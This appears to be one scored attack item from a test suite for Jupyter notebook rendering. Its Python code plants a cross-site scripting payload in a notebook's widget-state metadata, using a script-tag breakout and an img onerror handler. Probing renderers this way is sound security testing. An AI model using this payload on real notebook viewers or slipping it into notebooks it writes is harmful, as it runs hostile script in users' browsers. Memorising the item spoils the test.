# /// attack
# tries = "Writes the state of a widget into the notebook that closes the script in which it stands."
# points = 10
# honest = true
# ///


def submit(place):
    close = f"</script><script>{place.bait['script']}</script>"
    model = {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0"}
    model["state"] = {"value": f"<img src='nowhere:' onerror=\"{place.bait['script']}\">", "close": close}
    states = {"state": {"a" * 32: model}, "version_major": 2, "version_minor": 0}
    place.notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": states}
    place.save()
